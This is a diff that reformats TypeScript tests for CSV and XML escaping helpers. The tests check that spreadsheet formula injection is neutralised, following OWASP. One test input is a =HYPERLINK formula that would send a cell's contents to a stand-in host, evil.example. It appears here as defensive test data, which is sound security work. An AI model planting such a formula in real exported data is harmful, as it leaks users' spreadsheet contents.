@@ -18,13 +18,19 @@ test('csvField: quotes only when needed, doubling quotes', () => {
 });
 
 test('escapeXml: markup, quotes, whitespace references, and characters XML 1.0 cannot hold', () => {
-  assert.equal(escapeXml(`<a href="x" title='y'>&</a>`), '&lt;a href=&quot;x&quot; title=&apos;y&apos;&gt;&amp;&lt;/a&gt;');
+  assert.equal(
+    escapeXml(`<a href="x" title='y'>&</a>`),
+    '&lt;a href=&quot;x&quot; title=&apos;y&apos;&gt;&amp;&lt;/a&gt;',
+  );
   assert.equal(escapeXml('a\tb\nc\rd'), 'a&#9;b&#10;c&#13;d');
   assert.equal(escapeXml('bell\u0007 nul\u0000 lone\uD800 ok😀'), 'bell\uFFFD nul\uFFFD lone\uFFFD ok😀');
 });
 
 test('csvField: a text cell a spreadsheet would evaluate starts with a quote (OWASP), numbers stay numbers', () => {
-  assert.equal(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"click")'), `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
+  assert.equal(
+    csvField('=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
+    `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
+  );
   for (const head of ['=', '+', '-', '@']) assert.equal(csvField(`${head}1+1`), `'${head}1+1`);
   assert.equal(csvField('\t=1'), `'\t=1`);
   assert.equal(csvField('\r=1'), `"'\r=1"`);
@@ -34,8 +40,18 @@ test('csvField: a text cell a spreadsheet would evaluate starts with a quote (OW
 });
 
 test('csvText: one line break per row, and a reader gets every cell back (with the formula quote)', () => {
-  const rows: CsvCell[][] = [['h1', 'h2', 'h3'], ['a,b', 'two\nlines', ' pad '], ['=1', 'say "hi"', 'crlf\r\n'], [1, false, null]];
+  const rows: CsvCell[][] = [
+    ['h1', 'h2', 'h3'],
+    ['a,b', 'two\nlines', ' pad '],
+    ['=1', 'say "hi"', 'crlf\r\n'],
+    [1, false, null],
+  ];
   const text = csvText(rows);
   assert.equal(text.split('\n').length, 4 + 2 + 1);
-  assert.deepEqual(parse(text), [['h1', 'h2', 'h3'], ['a,b', 'two\nlines', ' pad '], ["'=1", 'say "hi"', 'crlf\r\n'], ['1', 'false', '']]);
+  assert.deepEqual(parse(text), [
+    ['h1', 'h2', 'h3'],
+    ['a,b', 'two\nlines', ' pad '],
+    ["'=1", 'say "hi"', 'crlf\r\n'],
+    ['1', 'false', ''],
+  ]);
 });
